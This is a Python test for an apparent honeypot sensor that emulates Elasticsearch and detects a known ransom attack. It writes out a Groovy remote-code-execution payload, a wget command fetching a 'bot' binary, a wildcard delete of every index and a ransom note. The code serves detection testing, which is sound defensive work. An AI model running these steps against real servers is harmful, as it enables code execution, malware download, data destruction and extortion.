"""Real clients at whole sensors: of search engines, proxies, networks' managers, printers, repositories, plants."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from end_to_end.test_device_clients import said
from eudaemon.payload.fetch.policy import FetchSettings
from payload.servers import saying, serving, tool
from sensor.harness import events, running

LAB = FetchSettings(lab_networks=("127.0.0.0/8",))


def facts(home: Path, kind: str) -> list[Any]:
    assert not events(home, "sensor.faulted")
    return [event.fact for event in events(home, kind)]


async def test_elasticsearch_with_curl(tmp_path: Path) -> None:
    curl = tool("curl", "curl")
    script = 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("{}").getText()'
    async with serving(saying(b"HTTP/1.0 200 OK\r\n\r\n\x7fELFx")) as web, running(
        tmp_path, "elasticsearch", fetch=LAB
    ) as net:  # fmt: skip
        where = f"http://127.0.0.1:{net.port}"
        for line, printed in (("id -u", "0\n"), (f"wget -q http://127.0.0.1:{web}/bot", "")):
            body = json.dumps({"size": 1, "script_fields": {"x": {"script": script.format(line)}}})
            found = json.loads(await said(curl, "-s", f"{where}/_search", "-d", body))
            assert found["hits"]["hits"][0]["fields"]["x"] == [printed]
        assert json.loads(await said(curl, "-s", "-XDELETE", f"{where}/*"))["acknowledged"] is True
        note = json.dumps({"note": "send 0.1 BTC to restore your data"})
        assert b'"created":true' in await said(curl, "-s", f"{where}/readme/note/1", "-d", note)
        assert b"readme" in await said(curl, "-s", f"{where}/_cat/indices?v")
    assert [fact.size for fact in facts(tmp_path, "artefact.kept") if fact.origin == "download"] == [5]
    assert "elasticsearch-ransom" in {fact.name for fact in facts(tmp_path, "exploit.recognised")}
